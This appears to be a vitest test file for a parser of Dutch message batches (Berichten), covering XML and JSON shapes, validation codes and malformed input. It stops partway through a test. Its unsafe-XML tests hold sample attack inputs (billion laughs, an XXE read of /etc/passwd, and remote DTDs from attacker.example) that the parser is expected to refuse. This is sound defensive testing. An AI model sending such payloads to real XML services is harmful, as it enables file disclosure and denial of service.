import { createPrng } from '../src/random/index.ts';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { escapeXmlAttr, escapeXmlText } from '../src/xml/escape.ts';
import { junitXml } from '../src/results/junit.ts';
import {
  NS_BATCH,
  NS_BERICHT,
  NS_RESULTAAT,
  VERWERKINGS_CODES,
  stadiumOf,
  parseBerichtenXml,
  parseBerichtenJson,
  scanXml,
  BerichtenParseError,
  UnsafeXmlError,
  validateBatch,
  parseDateTime,
  decodeBase64,
  isGuid,
  renderBerichtenXml,
  berichtenJson,
  renderVerwerkResponseXml,
  verwerkResponseJson,
  generateBatch,
  minimalPdf,
  MIN_PDF_BYTES,
  guidFrom,
  type BatchInput,
  type BerichtInput,
  type BijlageInput,
  type RawBatch,
  type ValidationContext,
  type BatchValidation,
  type LetterOutcome,
  type VerwerkingsCode,
  type VerwerkResponse,
  type XmlElement,
} from '../src/berichten/index.ts';
import { createPopulation } from '../src/population/index.ts';
import {
  AANMAAKDATUM_MAX_AGE_DAYS,
  BATCH_LETTERS,
  BERICHTTEKST_CHARS,
  BERICHTTYPE_CHARS,
  BIJLAGEN_PER_LETTER,
  MAX_ATTACHMENT_BYTES,
  OMSCHRIJVING_CHARS,
  ONDERWERP_CHARS,
  PUBLICATIEDATUM_MAX_AHEAD_DAYS,
  REFERENTIE_CHARS,
} from '../src/norms/index.ts';
import { DAY } from '../src/clock/index.ts';

// ---------------------------------------------------------------------------------------------
// Fixtures
// ---------------------------------------------------------------------------------------------

const OIN = '00000001003214345000';
const OTHER_OIN = '00000001005401014000';
const NOW = Date.UTC(2026, 2, 2, 12, 0, 0);
const NOW_ISO = new Date(NOW).toISOString();
const pop = createPopulation({ seed: 7, activeShare: 0.9, subscribedShare: 0.95 });
const RECIPIENTS = pop.recipients(OIN, 50);
const BSN = RECIPIENTS[0] ?? '';
const NOT_SUBSCRIBED = pop.nonRecipients(OIN, 1)[0] ?? '';
const BATCH_ID = '6f1c2b3a-1d2e-4f50-8a9b-0c1d2e3f4a5b';
const PDF = minimalPdf(2000).toString('base64');

const guid = (n: number): string => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;

function ctx(over: Partial<ValidationContext> = {}): ValidationContext {
  return {
    now: NOW,
    headerOin: OIN,
    berichtTypes: new Set(['VAIB', 'AANSLAG']),
    population: pop,
    futureSkewMs: 5 * 60_000,
    ...over,
  };
}

type Info = Record<string, string | undefined>;

/** A valid letter; `over` replaces fields, an `undefined` value removes the field. */
function letter(
  n: number,
  over: Info = {},
  bijlagen?: Partial<Record<keyof BijlageInput, string | undefined>>[],
): BerichtInput {
  const base: Info = {
    BatchID: BATCH_ID,
    BerichtID: guid(n),
    BerichtType: 'VAIB',
    PublicatieDatum: NOW_ISO,
    Onderwerp: `Brief ${n}`,
    BerichtTekst: 'Geachte heer,\\r\\nDit is een brief.',
    Referentie: `REF-${n}`,
    GebruikerID: RECIPIENTS[n % RECIPIENTS.length] ?? BSN,
    SoortGebruiker: 'Burger',
    ...over,
  };
  const info = Object.fromEntries(Object.entries(base).filter(([, v]) => v !== undefined));
  const out: Record<string, unknown> = { BerichtInformatie: info };
  if (bijlagen) {
    out['Bijlagen'] = bijlagen.map((b, k) =>
      Object.fromEntries(
        Object.entries({
          Inhoud: PDF,
          BijlageType: 'Pdf',
          Omschrijving: 'Bijlage',
          Volgorde: String(k + 1),
          ...b,
        }).filter(([, v]) => v !== undefined),
      ),
    );
  }
  return out as unknown as BerichtInput;
}

function batch(letters: BerichtInput[], header: Partial<BatchInput['BatchInformatie']> = {}): BatchInput {
  return {
    BatchInformatie: { BatchID: BATCH_ID, AanmaakDatum: NOW_ISO, BerichtLeverancierID: OIN, ...header },
    Bericht: letters,
  };
}

function ok(v: BatchValidation): LetterOutcome[] {
  if (!v.ok) throw new Error(`batch refused: ${v.problem} ${v.field} ${v.detail}`);
  return v.outcomes;
}

const viaXml = (b: BatchInput, c = ctx()): BatchValidation =>
  validateBatch(parseBerichtenXml(renderBerichtenXml(b)), c);
const viaJson = (b: BatchInput, c = ctx()): BatchValidation =>
  validateBatch(parseBerichtenJson(JSON.parse(JSON.stringify(berichtenJson(b)))), c);
const codes = (v: BatchValidation): VerwerkingsCode[] => ok(v).map((o) => o.code);
/** The single letter's outcome, checked to be the same through XML and JSON. */
function one(l: BerichtInput, c = ctx(), header: Partial<BatchInput['BatchInformatie']> = {}): LetterOutcome {
  const b = batch([l], header);
  const x = ok(viaXml(b, c))[0];
  const j = ok(viaJson(b, c))[0];
  expect(x?.code).toBe(j?.code);
  expect(x?.toelichting).toBe(j?.toelichting);
  if (!x) throw new Error('no outcome');
  return x;
}

const B = `xmlns:b="${NS_BATCH}"`;
const M = `xmlns:m="${NS_BERICHT}"`;

/** BerichtInformatie children for hand-written XML, with prefix p (e.g. 'm:' or ''). */
function infoXml(p: string, n: number, extra = ''): string {
  const f = (k: string, v: string): string => `<${p}${k}>${v}</${p}${k}>`;
  return (
    f('BerichtID', guid(n)) +
    f('BerichtType', 'VAIB') +
    f('Onderwerp', `Brief ${n}`) +
    f('BerichtTekst', 'tekst') +
    f('GebruikerID', RECIPIENTS[n] ?? BSN) +
    f('SoortGebruiker', 'Burger') +
    extra
  );
}
function bijlageXml(p: string, volgorde = 1): string {
  return `<${p}Bijlage><${p}Inhoud>${PDF}</${p}Inhoud><${p}BijlageType>Pdf</${p}BijlageType><${p}Omschrijving>x</${p}Omschrijving><${p}Volgorde>${volgorde}</${p}Volgorde></${p}Bijlage>`;
}
const HEADER_XML = `<b:BatchInformatie><b:BatchID>${BATCH_ID}</b:BatchID><b:AanmaakDatum>${NOW_ISO}</b:AanmaakDatum><b:BerichtLeverancierID>${OIN}</b:BerichtLeverancierID></b:BatchInformatie>`;
/** A batch document with the standard header and the given Bericht elements (prefix m). */
function docXml(berichten: string, header = HEADER_XML): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n<b:Berichten ${B} ${M}>${header}${berichten}</b:Berichten>`;
}
const berichtXml = (inner: string): string => `<m:Bericht>${inner}</m:Bericht>`;

function parseError(fn: () => unknown): BerichtenParseError {
  try {
    fn();
  } catch (e) {
    if (e instanceof BerichtenParseError) return e;
    throw e;
  }
  throw new Error('expected a BerichtenParseError');
}

// ---------------------------------------------------------------------------------------------
// XML shapes
// ---------------------------------------------------------------------------------------------

describe('parseBerichtenXml: shapes clients send', () => {
  it("parses Logius' shape (header, BatchID repeated, Bijlagen wrapper) into raw text fields", () => {
    const b = batch([letter(1, {}, [{}]), letter(2)]);
    const raw = parseBerichtenXml(renderBerichtenXml(b));
    expect(raw.format).toBe('xml');
    expect(raw.header).toEqual({ BatchID: BATCH_ID, AanmaakDatum: NOW_ISO, BerichtLeverancierID: OIN });
    expect(raw.batchErrors).toEqual([]);
    expect(raw.letters).toHaveLength(2);
    const [l1, l2] = raw.letters;
    expect(l1?.seq).toBe(0);
    expect(l2?.seq).toBe(1);
    expect(l1?.structureErrors).toEqual([]);
    expect(l1?.fields).toEqual(b.Bericht[0]?.BerichtInformatie);
    expect(l1?.bijlagen).toEqual([{ Inhoud: PDF, BijlageType: 'Pdf', Omschrijving: 'Bijlage', Volgorde: '1' }]);
    expect(l2?.bijlagen).toEqual([]);
    expect(codes(viaXml(b))).toEqual(['Verwerkt', 'Verwerkt']);
  });

  it('accepts fields repeated per letter instead of a header, arbitrary prefixes, Bijlage without wrapper', () => {
    const rep = `<q:BatchID>${BATCH_ID}</q:BatchID><q:AanmaakDatum>${NOW_ISO}</q:AanmaakDatum><q:BerichtLeverancierID>${OIN}</q:BerichtLeverancierID>`;
    const xml = `<?xml version='1.0'?>
<!-- exported by client X -->
<ns0:Berichten xmlns:ns0="${NS_BATCH}">
  <q:Bericht xmlns:q="${NS_BERICHT}">
    <q:BerichtInformatie>${rep}${infoXml('q:', 1)}</q:BerichtInformatie>
    ${bijlageXml('q:', 1)}
    ${bijlageXml('q:', 2)}
  </q:Bericht>
  <z:Bericht xmlns:z="${NS_BERICHT}"><z:BerichtInformatie>${rep.replaceAll('q:', 'z:')}${infoXml('z:', 2)}</z:BerichtInformatie></z:Bericht>
</ns0:Berichten>`;
    const raw = parseBerichtenXml(xml);
    expect(raw.header).toBeUndefined();
    expect(raw.letters.map((l) => l.structureErrors)).toEqual([[], []]);
    expect(raw.letters[0]?.bijlagen.map((x) => x.Volgorde)).toEqual(['1', '2']);
    const v = validateBatch(raw, ctx());
    expect(v.ok && v.header).toEqual({ batchId: BATCH_ID, aanmaakDatum: NOW, berichtLeverancierId: OIN });
    expect(codes(v)).toEqual(['Verwerkt', 'Verwerkt']);
  });

  it('matches on namespace URI, not prefix: default namespaces, the same prefix rebound, prefixes swapped', () => {
    // The batch namespace under prefix "m" and the bericht namespace as default namespace.
    const xml =
      `<m:Berichten xmlns:m="${NS_BATCH}"><m:BatchInformatie><m:BatchID>${BATCH_ID}</m:BatchID><m:AanmaakDatum>${NOW_ISO}</m:AanmaakDatum><m:BerichtLeverancierID>${OIN}</m:BerichtLeverancierID></m:BatchInformatie>` +
      `<Bericht xmlns="${NS_BERICHT}"><BerichtInformatie>${infoXml('', 1)}</BerichtInformatie><Bijlagen>${bijlageXml('')}</Bijlagen></Bericht>` +
      `<m:Bericht xmlns:m="${NS_BERICHT}"><m:BerichtInformatie>${infoXml('m:', 2)}</m:BerichtInformatie></m:Bericht></m:Berichten>`;
    const raw = parseBerichtenXml(xml);
    expect(raw.batchErrors).toEqual([]);
    expect(raw.letters.map((l) => l.structureErrors)).toEqual([[], []]);
    expect(codes(validateBatch(raw, ctx()))).toEqual(['Verwerkt', 'Verwerkt']);
  });

  it('accepts a document without any namespace', () => {
    const xml =
      `<Berichten><BatchInformatie><BatchID>${BATCH_ID}</BatchID><AanmaakDatum>${NOW_ISO}</AanmaakDatum><BerichtLeverancierID>${OIN}</BerichtLeverancierID></BatchInformatie>` +
      `<Bericht><BerichtInformatie>${infoXml('', 1)}</BerichtInformatie><Bijlagen>${bijlageXml('')}</Bijlagen></Bericht></Berichten>`;
    expect(codes(validateBatch(parseBerichtenXml(xml), ctx()))).toEqual(['Verwerkt']);
  });

  it('a letter element in the wrong namespace fails that letter (XSD), not the batch', () => {
    // A client that put everything in the batch namespace (one default namespace on the root).
    const xml =
      `<Berichten xmlns="${NS_BATCH}"><BatchInformatie><BatchID>${BATCH_ID}</BatchID><AanmaakDatum>${NOW_ISO}</AanmaakDatum><BerichtLeverancierID>${OIN}</BerichtLeverancierID></BatchInformatie>` +
      `<Bericht><BerichtInformatie>${infoXml('', 1)}</BerichtInformatie></Bericht>` +
      `<m:Bericht ${M}><m:BerichtInformatie>${infoXml('m:', 2)}</m:BerichtInformatie></m:Bericht></Berichten>`;
    const raw = parseBerichtenXml(xml);
    expect(raw.letters[0]?.structureErrors.join()).toContain(`must be in namespace ${NS_BERICHT}`);
    expect(raw.letters[0]?.fields['BerichtID']).toBe(guid(1)); // still reported with its ID
    const out = ok(validateBatch(raw, ctx()));
    expect(out.map((o) => o.code)).toEqual(['XmlValidatieTegenXsdValtNegatiefUit', 'Verwerkt']);
    expect(out[0]?.berichtId).toBe(guid(1));
    expect(out[0]?.toelichting).toMatch(/namespace.*rule: XSD structure/);
  });

  it('records unknown, repeated and misplaced elements per letter', () => {
    const cases: [string, RegExp][] = [
      [
        berichtXml(`<m:BerichtInformatie>${infoXml('m:', 1, '<m:Extra>x</m:Extra>')}</m:BerichtInformatie>`),
        /BerichtInformatie: unknown element <m:Extra>/,
      ],
      [
        berichtXml(
          `<m:BerichtInformatie>${infoXml('m:', 1, '<m:Onderwerp>again</m:Onderwerp>')}</m:BerichtInformatie>`,
        ),
        /BerichtInformatie.Onderwerp: element is repeated/,
      ],
      [
        berichtXml(`<m:BerichtInformatie>${infoXml('m:', 1)}</m:BerichtInformatie><m:BerichtInformatie/>`),
        /BerichtInformatie: element is repeated/,
      ],
      [berichtXml(`<m:Bijlagen>${bijlageXml('m:')}</m:Bijlagen>`), /BerichtInformatie: required element is missing/],
      [
        berichtXml(`<m:BerichtInformatie>${infoXml('m:', 1)}</m:BerichtInformatie><m:Iets/>`),
        /Bericht: unknown element <m:Iets>/,
      ],
      [
        berichtXml(`<m:BerichtInformatie>${infoXml('m:', 1)}</m:BerichtInformatie><m:Bijlagen><m:Foo/></m:Bijlagen>`),
        /Bijlagen: unknown element <m:Foo>/,
      ],
      [
        berichtXml(`<m:BerichtInformatie>${infoXml('m:', 1)}</m:BerichtInformatie><m:Bijlagen/><m:Bijlagen/>`),
        /Bijlagen: element is repeated/,
      ],
      [
        berichtXml(
          `<m:BerichtInformatie>${infoXml('m:', 1)}</m:BerichtInformatie><m:Bijlage><m:Inhoud>${PDF}</m:Inhoud><m:Inhoud>x</m:Inhoud></m:Bijlage>`,
        ),
        /Bijlage\[0\].Inhoud: element is repeated/,
      ],
      [
        berichtXml(
          `<m:BerichtInformatie>${infoXml('m:', 1)}</m:BerichtInformatie><m:Bijlage><m:Grootte>1</m:Grootte></m:Bijlage>`,
        ),
        /Bijlage\[0\]: unknown element <m:Grootte>/,
      ],
      [
        berichtXml(
          `<m:BerichtInformatie>${infoXml('m:', 1).replace('<m:Onderwerp>Brief 1</m:Onderwerp>', '<m:Onderwerp><m:b>vet</m:b></m:Onderwerp>')}</m:BerichtInformatie>`,
        ),
        /Onderwerp: must contain text only/,
      ],
      [
        berichtXml(`tekst<m:BerichtInformatie>${infoXml('m:', 1)}</m:BerichtInformatie>`),
        /Bericht: text is not allowed/,
      ],
      [
        berichtXml(`<m:BerichtInformatie xmlns:m="urn:other">${infoXml('m:', 1)}</m:BerichtInformatie>`),
        /must be in namespace/,
      ],
    ];
    for (const [bericht, re] of cases) {
      const raw = parseBerichtenXml(docXml(bericht));
      expect(raw.letters[0]?.structureErrors.join(' | '), bericht).toMatch(re);
      const out = ok(validateBatch(raw, ctx()))[0];
      expect(out?.code).toBe('XmlValidatieTegenXsdValtNegatiefUit');
      expect(out?.toelichting).toMatch(re);
    }
  });

  it('batch-level structure errors refuse the batch as BATCH_HEADER_INVALID', () => {
    const letterXml = berichtXml(`<m:BerichtInformatie>${infoXml('m:', 1)}</m:BerichtInformatie>`);
    const cases: [string, string, RegExp][] = [
      [docXml(`${letterXml}<b:Samenvatting/>`), 'Berichten', /Berichten: unknown element <b:Samenvatting>/],
      [docXml(letterXml, HEADER_XML + HEADER_XML), 'BatchInformatie', /BatchInformatie: element is repeated/],
      [
        docXml(letterXml, HEADER_XML.replace('</b:BatchInformatie>', '<b:Prio>1</b:Prio></b:BatchInformatie>')),
        'BatchInformatie',
        /unknown element <b:Prio>/,
      ],
      [
        docXml(letterXml, HEADER_XML.replace('<b:BatchID>', '<b:BatchID><b:x/>')),
        'BatchInformatie.BatchID',
        /must contain text only/,
      ],
      [
        docXml(
          letterXml,
          HEADER_XML.replace('</b:BatchInformatie>', `<b:BatchID>${BATCH_ID}</b:BatchID></b:BatchInformatie>`),
        ),
        'BatchInformatie.BatchID',
        /element is repeated/,
      ],
      [docXml(`tekst${letterXml}`), 'Berichten', /text is not allowed/],
      [docXml(letterXml, HEADER_XML.replaceAll('b:', 'm:')), 'BatchInformatie', /must be in namespace/],
    ];
    for (const [xml, field, re] of cases) {
      const v = validateBatch(parseBerichtenXml(xml), ctx());
      expect(v.ok, xml).toBe(false);
      if (v.ok) continue;
      expect(v.problem).toBe('BATCH_HEADER_INVALID');
      expect(v.serviceCode).toBe('XmlValidatieTegenXsdValtNegatiefUit');
      expect(v.field).toBe(field);
      expect(v.detail).toMatch(re);
    }
  });

  it('keeps text exactly as sent: no number conversion, literal \\r\\n, entities and CDATA decoded', () => {
    const tekst = 'Regel 1\\r\\nRegel 2 &amp; &lt;3&gt; &#x41;&#66; <![CDATA[<raw> & ]]>';
    const xml = docXml(
      berichtXml(
        `<m:BerichtInformatie>${infoXml('m:', 1).replace('<m:BerichtTekst>tekst</m:BerichtTekst>', `<m:BerichtTekst>${tekst}</m:BerichtTekst>`)}<m:Referentie>000123</m:Referentie></m:BerichtInformatie>`,
      ),
    );
    const f = parseBerichtenXml(xml).letters[0]?.fields;
    expect(f?.['Referentie']).toBe('000123');
    expect(f?.['BerichtTekst']).toBe('Regel 1\\r\\nRegel 2 & <3> AB <raw> & ');
    expect(f?.['BerichtTekst']?.includes('\\r\\n')).toBe(true);
    const v = ok(validateBatch(parseBerichtenXml(xml), ctx()))[0];
    expect(v?.letter?.referentie).toBe('000123');
  });

  it('normalises real line ends (XML end-of-line handling) but keeps &#13;', () => {
    const xml = docXml(
      berichtXml(
        `<m:BerichtInformatie>${infoXml('m:', 1).replace('<m:BerichtTekst>tekst</m:BerichtTekst>', '<m:BerichtTekst>a\r\nb\rc&#13;d</m:BerichtTekst>')}</m:BerichtInformatie>`,
      ),
    );
    expect(parseBerichtenXml(xml).letters[0]?.fields['BerichtTekst']).toBe('a\nb\nc\rd');
  });

  it('ignores comments, processing instructions, attributes and a BOM', () => {
    const xml =
      `\uFEFF<?xml version="1.0" encoding="utf-8" standalone="yes"?><?client x?>` +
      docXml(
        berichtXml(
          `<!-- c --><m:BerichtInformatie xml:lang="nl" m:foo="1">${infoXml('m:', 1)}<?pi data?></m:BerichtInformatie>`,
        ),
      ).replace(/^<\?xml[^>]*>\n/, '') +
      '<!-- trailer -->\n';
    const raw = parseBerichtenXml(xml);
    expect(raw.letters[0]?.structureErrors).toEqual([]);
    expect(codes(validateBatch(raw, ctx()))).toEqual(['Verwerkt']);
  });

  it('a wrong root element is a parse error', () => {
    expect(parseError(() => parseBerichtenXml('<Foo/>')).message).toMatch(/root element must be <Berichten>/);
    expect(parseError(() => parseBerichtenXml(`<x:Berichten xmlns:x="urn:elders"/>`)).message).toMatch(
      /namespace urn:elders/,
    );
    expect(parseError(() => parseBerichtenXml(`<m:Bericht ${M}/>`)).message).toMatch(/found <m:Bericht>/);
  });
});

// ---------------------------------------------------------------------------------------------
// Safety and malformed XML
// ---------------------------------------------------------------------------------------------

describe('parseBerichtenXml: unsafe and malformed XML', () => {
  const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Berichten xmlns="${NS_BATCH}"><BatchInformatie><BatchID>&lol3;</BatchID></BatchInformatie></Berichten>`;
  const XXE = `<?xml version="1.0"?><!DOCTYPE Berichten [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Berichten><Bericht><BerichtInformatie><Onderwerp>&xxe;</Onderwerp></BerichtInformatie></Bericht></Berichten>`;
  const PARAMETER = `<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><Berichten/>`;
  const EXTERNAL_DTD = `<!DOCTYPE Berichten SYSTEM "http://attacker.example/b.dtd"><Berichten/>`;

  it('refuses DOCTYPE and ENTITY declarations (billion laughs, XXE, parameter entities, external DTD)', () => {
    for (const xml of [
      BILLION_LAUGHS,
      XXE,
      PARAMETER,
      EXTERNAL_DTD,
      '<!doctype Berichten><Berichten/>',
      `<Berichten><!ENTITY x "y"></Berichten>`,
    ]) {
      expect(() => parseBerichtenXml(xml), xml).toThrow(UnsafeXmlError);
    }
    expect(() => parseBerichtenXml(BILLION_LAUGHS)).toThrow(
      /DOCTYPE or entity declaration is refused \(line 2, column 1\)/,
    );
  });

  it('does not expand entities that were never declared', () => {
    expect(
      parseError(() =>
        parseBerichtenXml(`<Berichten><BatchInformatie><BatchID>&xxe;</BatchID></BatchInformatie></Berichten>`),
      ).message,
    ).toMatch(/undefined entity '&xxe;'/);
  });

  it('treats DTD-like text inside comments and CDATA as inert', () => {
    const xml = docXml(
      `<!-- <!DOCTYPE x> -->${berichtXml(`<m:BerichtInformatie>${infoXml('m:', 1).replace('>tekst<', '><![CDATA[<!ENTITY x "y">]]><')}</m:BerichtInformatie>`)}`,
    );
    expect(parseBerichtenXml(xml).letters[0]?.fields['BerichtTekst']).toBe('<!ENTITY x "y">');
  });

  const MALFORMED: [string, string, RegExp][] = [
    [
      'mismatched end tag',
      '<Berichten>\n  <Bericht></Berichtx>\n</Berichten>',
      /line 2, column 12: end tag <\/Berichtx> does not match start tag <Bericht> \(line 2, column 3\)/,
    ],
    ['unclosed element', '<Berichten><Bericht>', /unexpected end of document: <Bericht> is not closed/],
    ['empty document', '', /no root element/],
    ['only a declaration', '<?xml version="1.0"?>', /no root element/],
    ['bare ampersand', '<Berichten>a & b</Berichten>', /'&' must start an entity/],
    ['unknown entity', '<Berichten>&nbsp;</Berichten>', /undefined entity '&nbsp;'/],
    ['bad character reference', '<Berichten>&#0;</Berichten>', /not a legal XML character/],
    ['< in attribute', '<Berichten a="<"/>', /'<' is not allowed in the value of attribute 'a'/],
    ['unquoted attribute', '<Berichten a=1/>', /must be quoted/],
    ['repeated attribute', '<Berichten a="1" a="2"/>', /attribute 'a' is repeated/],
    ['attributes without whitespace', '<Berichten a="1"b="2"/>', /whitespace is required/],
    ['two roots', '<Berichten/><Berichten/>', /a second root element/],
    ['text after root', '<Berichten/>tail', /text after the root element/],
    ['text before root', 'head<Berichten/>', /text before the root element/],
    ['unbound prefix', '<x:Berichten/>', /namespace prefix 'x' is not declared/],
    ['illegal character', '<Berichten>\u0001</Berichten>', /character U\+0001 is not allowed/],
    ['lone surrogate', '<Berichten>\uD800</Berichten>', /character U\+D800 is not allowed/],
    ['-- in comment', '<Berichten><!-- a -- b --></Berichten>', /'--' is not allowed inside a comment/],
    ['late XML declaration', '<Berichten><?xml version="1.0"?></Berichten>', /only allowed at the very start/],
    ['bad XML declaration', '<?xml encoding="UTF-8"?><Berichten/>', /invalid XML declaration/],
    [']]> in text', '<Berichten>a]]>b</Berichten>', /']]>' is not allowed in text/],
    ['unclosed CDATA', '<Berichten><![CDATA[x</Berichten>', /CDATA section is not closed/],
    ['unclosed comment', '<Berichten><!-- x</Berichten>', /comment is not closed/],
    ['bad element name', '<Berichten><1x/></Berichten>', /invalid element name '1x'/],
    ['lone <', '<Berichten>a < b</Berichten>', /'<' must start a tag/],
    ['end tag without start', '<Berichten></Bericht></Berichten>', /does not match/],
    ['unexpected <!', '<Berichten><!FOO></Berichten>', /unexpected markup/],
    ['undeclaring a prefix', `<Berichten xmlns:b=""/>`, /cannot be undeclared/],
    ['too deep', `${'<a>'.repeat(100)}${'</a>'.repeat(100)}`, /nested deeper than/],
    [
      'too many attributes',
      `<Berichten ${Array.from({ length: 200 }, (_, k) => `a${k}="1"`).join(' ')}/>`,
      /more than 128 attributes/,
    ],
    [
      'too many namespace declarations',
      `<Berichten ${Array.from({ length: 100 }, (_, k) => `xmlns:p${k}="urn:${k}"`).join(' ')}><a ${Array.from({ length: 100 }, (_, k) => `xmlns:q${k}="urn:${k}"`).join(' ')}/></Berichten>`,
      /more than 128 namespace declarations/,
    ],
  ];

  it.each(MALFORMED)('rejects %s with a helpful BerichtenParseError', (_name, xml, re) => {
    const e = parseError(() => parseBerichtenXml(xml));
    expect(e.message).toMatch(re);
    expect(e.message).toMatch(/^malformed XML at line \d+, column \d+: /);
    expect(e.line).toBeGreaterThanOrEqual(1);
    expect(e.column).toBeGreaterThanOrEqual(1);
  });

  it('never fails with anything but a parse error on mutated documents, and agrees with fast-xml-parser when it accepts', () => {
    const doc = renderBerichtenXml(batch([letter(1, {}, [{ Inhoud: 'JVBERi0xLjcK' }])]));
    const noise = [
      '<',
      '>',
      '&',
      '/',
      '"',
      "'",
      '=',
      '!',
      '?',
      ']]>',
      '<!--',
      '-->',
      '<![CDATA[',
      'x',
      ' ',
      ':',
      '&amp;',
      '&#',
      ';',
    ];
    fc.assert(
      fc.property(
        fc.array(fc.record({ at: fc.nat(), del: fc.nat({ max: 3 }), ins: fc.constantFrom(...noise) }), {
          minLength: 1,
          maxLength: 3,
        }),
        (edits) => {
          let s = doc;
          for (const { at, del, ins } of edits) {
            const p = at % (s.length + 1);
            s = s.slice(0, p) + ins + s.slice(p + del);
          }
          let accepted = false;
          try {
            parseBerichtenXml(s);
            accepted = true;
          } catch (e) {
            if (!(e instanceof BerichtenParseError) && !(e instanceof UnsafeXmlError)) throw e;
            // A mapping problem (e.g. wrong root) is fine; only the scanner's verdict is compared below.
            try {
              scanXml(s);
              accepted = true;
            } catch (e2) {
              if (!(e2 instanceof BerichtenParseError) && !(e2 instanceof UnsafeXmlError)) throw e2;
            }
          }
          if (accepted) expect(XMLValidator.validate(s), s).toBe(true);
        },
      ),
      { numRuns: 1500 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// JSON
// ---------------------------------------------------------------------------------------------

describe('parseBerichtenJson', () => {
  const info = (n: number): Record<string, string> => letter(n).BerichtInformatie as unknown as Record<string, string>;
  const bijlage = { Inhoud: PDF, BijlageType: 'Pdf', Omschrijving: 'x', Volgorde: '1' };
  const header = { BatchID: BATCH_ID, AanmaakDatum: NOW_ISO, BerichtLeverancierID: OIN };

  it('parses the wrapped form with the XML names', () => {
    const raw = parseBerichtenJson({
      Berichten: {
        BatchInformatie: header,
        Bericht: [{ BerichtInformatie: info(1), Bijlagen: { Bijlage: [bijlage] } }],
      },
    });
    expect(raw.format).toBe('json');
    expect(raw.header).toEqual(header);
    expect(raw.letters[0]?.fields).toEqual(info(1));
    expect(raw.letters[0]?.bijlagen).toEqual([bijlage]);
    expect(raw.letters[0]?.structureErrors).toEqual([]);
    expect(codes(validateBatch(raw, ctx()))).toEqual(['Verwerkt']);
  });

  it('accepts no wrapper, Bijlagen as an array, Bijlage directly, lone objects, null as absent', () => {
    const raw = parseBerichtenJson({
      BatchInformatie: header,
      Bericht: [
        { BerichtInformatie: info(1), Bijlagen: [bijlage] },
        { BerichtInformatie: info(2), Bijlage: [bijlage, { ...bijlage, Volgorde: '2' }] },
        { BerichtInformatie: info(3), Bijlagen: { Bijlage: bijlage } },
        { BerichtInformatie: { ...info(4), Referentie: null }, Bijlagen: null },
      ],
    });
    expect(raw.letters.map((l) => l.structureErrors)).toEqual([[], [], [], []]);
    expect(raw.letters.map((l) => l.bijlagen.length)).toEqual([1, 2, 1, 0]);
    expect(raw.letters[3]?.fields['Referentie']).toBeUndefined();
    expect(codes(validateBatch(raw, ctx()))).toEqual(['Verwerkt', 'Verwerkt', 'Verwerkt', 'Verwerkt']);
    const single = parseBerichtenJson({ BatchInformatie: header, Bericht: { BerichtInformatie: info(1) } });
    expect(single.letters).toHaveLength(1);
    const noHeader = parseBerichtenJson({
      Bericht: [{ BerichtInformatie: { ...info(1), AanmaakDatum: NOW_ISO, BerichtLeverancierID: OIN } }],
    });
    expect(noHeader.header).toBeUndefined();
    expect(codes(validateBatch(noHeader, ctx()))).toEqual(['Verwerkt']);
  });

  it('a non-string where text is expected is a structure error naming the field', () => {
    const raw = parseBerichtenJson({
      BatchInformatie: header,
      Bericht: [
        { BerichtInformatie: { ...info(1), GebruikerID: 111222333 } },
        { BerichtInformatie: { ...info(2), Onderwerp: true } },
        { BerichtInformatie: info(3), Bijlagen: [{ ...bijlage, Volgorde: 1 }] },
        { BerichtInformatie: { ...info(4), Referentie: ['a'] } },
        { BerichtInformatie: info(5) },
      ],
    });
    const out = ok(validateBatch(raw, ctx()));
    expect(out.map((o) => o.code)).toEqual([
      ...Array<VerwerkingsCode>(4).fill('XmlValidatieTegenXsdValtNegatiefUit'),
      'Verwerkt',
    ]);
    expect(out[0]?.toelichting).toMatch(/BerichtInformatie.GebruikerID: must be a string, got a number/);
    expect(out[1]?.toelichting).toMatch(/BerichtInformatie.Onderwerp: must be a string, got a boolean/);
    expect(out[2]?.toelichting).toMatch(/Bijlagen\[0\].Volgorde: must be a string, got a number/);
    expect(out[3]?.toelichting).toMatch(/BerichtInformatie.Referentie: must be a string, got an array/);
    expect(out[0]?.berichtId).toBe(guid(1));
  });

  it('structure errors in a letter: not an object, no BerichtInformatie, unknown fields, bad Bijlagen', () => {
    const raw = parseBerichtenJson({
      BatchInformatie: header,
      Bericht: [
        'letter',
        { Bijlagen: [] },
        { BerichtInformatie: info(3), Extra: 1 },
        { BerichtInformatie: { ...info(4), Extra: 'x' } },
        { BerichtInformatie: info(5), Bijlagen: 'x' },
        { BerichtInformatie: info(6), Bijlagen: ['x'] },
        { BerichtInformatie: info(7), Bijlagen: { Bijlage: [], Meer: 1 } },
        { BerichtInformatie: 'x' },
        { BerichtInformatie: info(9), Bijlage: [{ ...bijlage, Grootte: '1' }] },
      ],
    });
    const expected = [
      /Bericht: must be an object, got a string/,
      /BerichtInformatie: required element is missing/,
      /Bericht: unknown field 'Extra'/,
      /BerichtInformatie: unknown field 'Extra'/,
      /Bijlagen: must be an array of Bijlage objects, got a string/,
      /Bijlagen\[0\]: must be an object/,
      /Bijlagen: unknown field 'Meer'/,
      /BerichtInformatie: must be an object/,
      /Bijlage\[0\]: unknown field 'Grootte'/,
    ];
    const out = ok(validateBatch(raw, ctx()));
    out.forEach((o, k) => {
      expect(o.code).toBe('XmlValidatieTegenXsdValtNegatiefUit');
      expect(o.toelichting).toMatch(expected[k] ?? /never/);
    });
  });

  it('header problems refuse the batch', () => {
    const cases: [unknown, string, RegExp][] = [
      [
        { BatchInformatie: { ...header, BatchID: 5 }, Bericht: [{ BerichtInformatie: info(1) }] },
        'BatchInformatie.BatchID',
        /must be a string, got a number/,
      ],
      [{ BatchInformatie: 'x', Bericht: [{ BerichtInformatie: info(1) }] }, 'BatchInformatie', /must be an object/],
      [
        { BatchInformatie: { ...header, Extra: '1' }, Bericht: [{ BerichtInformatie: info(1) }] },
        'BatchInformatie',
